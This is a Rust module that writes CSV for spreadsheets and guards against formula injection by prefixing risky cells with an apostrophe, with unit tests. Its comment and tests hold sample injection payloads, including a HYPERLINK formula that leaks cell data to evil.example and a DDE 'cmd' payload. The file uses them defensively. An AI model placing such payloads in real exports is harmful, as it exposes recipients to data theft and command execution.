//! CSV for people's spreadsheets: the one writer behind every CSV Trellis hands out (the
//! exports, the import's rejects file, the dashboard tables). RFC 4180 (comma, CRLF, quotes
//! doubled inside quoted cells), over a `Vec<u8>` so it does no I/O and can be drained chunk
//! by chunk while streaming.
//!
//! Formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that starts with `=`,
//! `+`, `-` or `@` as a formula, and tab or CR can hide such a start; an employee who titles a
//! posting `=HYPERLINK("https://evil.example/?"&A2, "Click")` would run it in HR's
//! spreadsheet. Every such cell is written with a leading `'`, which the spreadsheet shows as
//! text (and hides). Plain negative numbers (`-12`, `-3.5`) stay as they are: they are not
//! formulas, and a spreadsheet must still read them as numbers (a `+` always gets the
//! apostrophe: no value Trellis writes starts with one). Nothing else is changed. This is for CSV
//! meant for people; CSV fed to a program (PostgreSQL's COPY) must not use it.

use std::borrow::Cow;

/// Whether `s` is a plain negative decimal number: `-`, digits, optional fraction.
fn is_negative_number(s: &str) -> bool {
    let Some(unsigned) = s.strip_prefix('-') else {
        return false;
    };
    let (whole, fraction) = match unsigned.split_once('.') {
        Some((w, f)) => (w, Some(f)),
        None => (unsigned, None),
    };
    let digits = |t: &str| !t.is_empty() && t.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && fraction.is_none_or(digits)
}

/// The cell as a spreadsheet should see it: prefixed with `'` when it would start a formula.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let risky =
        cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) && !is_negative_number(cell);
    if risky {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A CSV document being written.
#[derive(Debug, Default)]
pub struct CsvOut {
    buf: Vec<u8>,
}

impl CsvOut {
    /// An empty document.
    pub fn new() -> CsvOut {
        CsvOut::default()
    }

    /// Append one row (a header row is a row like any other).
    pub fn row<I, S>(&mut self, cells: I)
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let (mut count, mut only_empty) = (0, true);
        for cell in cells {
            if count > 0 {
                self.buf.push(b',');
            }
            let cell = neutralise(cell.as_ref());
            if cell.contains([',', '"', '\r', '\n']) {
                self.buf.push(b'"');
                self.buf
                    .extend_from_slice(cell.replace('"', "\"\"").as_bytes());
                self.buf.push(b'"');
            } else {
                self.buf.extend_from_slice(cell.as_bytes());
            }
            count += 1;
            only_empty &= cell.is_empty();
        }
        if count == 1 && only_empty {
            // A row of one empty cell would read back as no row at all.
            self.buf.extend_from_slice(b"\"\"");
        }
        self.buf.extend_from_slice(b"\r\n");
    }

    /// Bytes written so far.
    pub fn len(&self) -> usize {
        self.buf.len()
    }

    /// Whether nothing was written yet.
    pub fn is_empty(&self) -> bool {
        self.buf.is_empty()
    }

    /// Take what was written so far (to send it), leaving the writer empty.
    pub fn take(&mut self) -> Vec<u8> {
        std::mem::take(&mut self.buf)
    }

    /// The whole document as text.
    pub fn into_string(self) -> String {
        // Only `&str` cells and ASCII punctuation were written.
        String::from_utf8(self.buf).unwrap_or_default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn csv(rows: &[&[&str]]) -> String {
        let mut out = CsvOut::new();
        for r in rows {
            out.row(r.iter());
        }
        out.into_string()
    }

    #[test]
    fn cells_that_would_start_a_formula_get_an_apostrophe() {
        for hostile in [
            "=HYPERLINK(\"https://evil.example\",\"x\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
            "-",
            "+",
            "+3",
        ] {
            assert_eq!(neutralise(hostile), format!("'{hostile}"), "{hostile:?}");
        }
    }

    #[test]
    fn plain_numbers_and_ordinary_text_are_left_alone() {
        for plain in [
            "-12",
            "-0.5",
            "42",
            "3.25",
            "Ada",
            "",
            "a=b",
            "x@y.z",
            "2025-01-01",
        ] {
            assert_eq!(neutralise(plain), plain, "{plain:?}");
        }
        for not_a_number in ["-1e5", "-1.", "-.5", "--1", "-inf", "-NaN", "- 1"] {
            assert!(
                neutralise(not_a_number).starts_with('\''),
                "{not_a_number:?}"
            );
        }
    }

    #[test]
    fn rows_are_rfc_4180_and_read_back_as_written() {
        let text = csv(&[
            &["id", "title"],
            &["1", "Says \"hi\", twice"],
            &["2", "line\nbreak"],
            &["3", "=1+1"],
            &["4", "-7"],
        ]);
        assert!(text.ends_with("\r\n"));
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let rows: Vec<Vec<String>> = reader
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect();
        assert_eq!(
            rows,
            [
                ["1", "Says \"hi\", twice"],
                ["2", "line\nbreak"],
                ["3", "'=1+1"],
                ["4", "-7"],
            ]
        );
    }

    #[test]
    fn a_row_of_one_empty_cell_is_kept() {
        let text = csv(&[&["a"], &[""], &["b"]]);
        assert_eq!(text, "a\r\n\"\"\r\nb\r\n");
    }

    #[test]
    fn taking_drains_what_was_written() {
        let mut out = CsvOut::new();
        out.row(["a", "b"]);
        assert_eq!(out.take(), b"a,b\r\n");
        assert!(out.is_empty());
        out.row(["c"]);
        assert_eq!(out.len(), 3);
    }
}
